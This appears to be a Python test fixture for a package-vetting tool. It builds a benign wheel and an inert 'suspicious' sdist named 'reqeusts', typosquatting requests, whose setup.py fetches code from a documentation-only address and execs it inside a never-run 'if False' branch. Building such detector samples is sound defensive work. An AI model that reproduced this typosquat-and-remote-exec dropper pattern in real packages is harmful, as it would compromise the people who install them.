"""Reproducible sample packages for the ``assay vet`` tests, written here by hand.

The suspicious sample only *looks* like a dropper: its network call and its
``exec`` sit under ``if False:`` and use a documentation-only address
(203.0.113.0/24); nothing here is ever installed, imported or run.  Every byte
is fixed (zip dates, tar mtimes, gzip header), so the sha256 of each sample is
stable and the golden reports can name it.
"""

from __future__ import annotations

import gzip
import io
import json
import tarfile
import zipfile
from pathlib import Path

BENIGN_NAME = "tidy-1.0-py3-none-any.whl"
SUSPICIOUS_NAME = "reqeusts-0.1.tar.gz"

BENIGN_FILES = {
    "tidy/__init__.py": "def add(a, b):\n    return a + b\n",
    "tidy-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: tidy\nVersion: 1.0\n\n",
}

SUSPICIOUS_SETUP = """\
import base64
import urllib.request

from setuptools import setup

if False:  # a harmless test sample: this branch never runs
    payload = urllib.request.urlopen("http://203.0.113.9/stage2").read()
    exec(base64.b64decode("cHJpbnQoJ2hpJyk="))
    exec(payload)

setup(name="reqeusts", version="0.1")
"""

SUSPICIOUS_FILES = {
    "setup.py": SUSPICIOUS_SETUP,
    "PKG-INFO": "Metadata-Version: 2.1\nName: reqeusts\nVersion: 0.1\n\n",
}

# Medium-risk code (a process spawned at import time) for the name-combination tests.
MEDIUM_FILES = {
    "helper/__init__.py": "import subprocess\n\nsubprocess.run(['true'])\n",
}

POPULAR = {
    "last_update": "2026-04-01 00:00:00",
    "rows": [
        {"project": "requests", "download_count": 1_000_000_000},
        {"project": "numpy", "download_count": 900_000_000},
        {"project": "tidy", "download_count": 10},
        {"project": "helper", "download_count": 5},
    ],
}


def wheel_bytes(files: dict[str, str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, text in sorted(files.items()):
            archive.writestr(zipfile.ZipInfo(path, (2026, 1, 1, 0, 0, 0)), text)
    return out.getvalue()


def sdist_bytes(files: dict[str, str], root: str) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for path, text in sorted(files.items()):
            data = text.encode()
            info = tarfile.TarInfo(f"{root}/{path}")
            info.size = len(data)
            info.mtime = 1_700_000_000
            tar.addfile(info, io.BytesIO(data))
    return gzip.compress(out.getvalue(), mtime=0)


def write_samples(directory: Path) -> tuple[Path, Path]:
    """The benign wheel and the suspicious sdist, written into ``directory``."""
    benign = directory / BENIGN_NAME
    benign.write_bytes(wheel_bytes(BENIGN_FILES))
    suspicious = directory / SUSPICIOUS_NAME
    suspicious.write_bytes(sdist_bytes(SUSPICIOUS_FILES, "reqeusts-0.1"))
    return benign, suspicious


def write_popular(directory: Path) -> Path:
    path = directory / "popular.json"
    path.write_text(json.dumps(POPULAR), encoding="utf-8")
    return path
